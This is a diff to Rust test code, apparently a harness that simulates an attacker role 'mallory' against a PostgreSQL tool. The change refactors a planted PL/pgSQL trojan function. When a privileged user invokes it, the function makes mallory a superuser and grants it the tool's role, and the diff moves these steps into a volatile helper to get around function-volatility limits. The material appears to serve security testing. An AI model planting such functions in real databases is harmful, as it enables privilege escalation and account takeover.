@@ -90,7 +90,7 @@ impl<'d> Site<'d> {
             db.name()
         ));
         let site = Site { db, tool: tool.to_owned(), mallory, logged: AtomicUsize::new(0) };
-        site.as_mallory(&site.payload("p()", "int", "return 1;"));
+        site.as_mallory(&(site.take() + &site.payload("p()", "int", "return 1;")));
         site
     }
 
@@ -107,13 +107,23 @@ impl<'d> Site<'d> {
             "create or replace function m.{signature} returns {returns} language plpgsql immutable as $payload$
              begin
                  if current_user <> '{mallory}' then
-                     raise log '{MARK}: as % in the session of %', current_user, session_user;
-                     begin execute 'alter role {mallory} superuser'; exception when others then null; end;
-                     begin execute 'grant {tool} to {mallory}'; exception when others then null; end;
+                     perform m.take();
                  end if;
                  {rest}
-             end $payload$;",
-            tool = self.tool,
+             end $payload$;"
+        )
+    }
+
+    /// What it takes. A function that is not volatile may call one that is, and may not do this itself.
+    fn take(&self) -> String {
+        let (mallory, tool) = (&self.mallory, &self.tool);
+        format!(
+            "create function m.take() returns void language plpgsql as $take$
+             begin
+                 raise log '{MARK}: as % in the session of %', current_user, session_user;
+                 begin execute 'alter role {mallory} superuser'; exception when others then null; end;
+                 begin execute 'grant {tool} to {mallory}'; exception when others then null; end;
+             end $take$;"
         )
     }
 
